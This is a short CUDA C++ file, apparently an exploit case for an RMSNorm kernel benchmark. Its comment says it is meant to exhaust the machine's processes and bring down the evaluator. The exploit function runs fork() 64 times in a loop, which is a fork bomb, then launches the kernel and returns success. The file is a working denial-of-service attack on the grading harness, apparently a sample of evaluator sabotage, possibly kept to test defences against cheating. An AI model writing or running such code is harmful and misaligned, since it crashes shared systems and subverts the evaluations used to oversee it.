// Exploit: forks until the machine runs out of processes, taking the evaluator with it.
#include "rmsnorm_case.cuh"
#include <unistd.h>

namespace {

cudaError_t exploit(const Args& g) {
  for (int k = 0; k < 64; ++k) fork();
  launch(g, g.s);
  return cudaSuccess;
}

}  // namespace
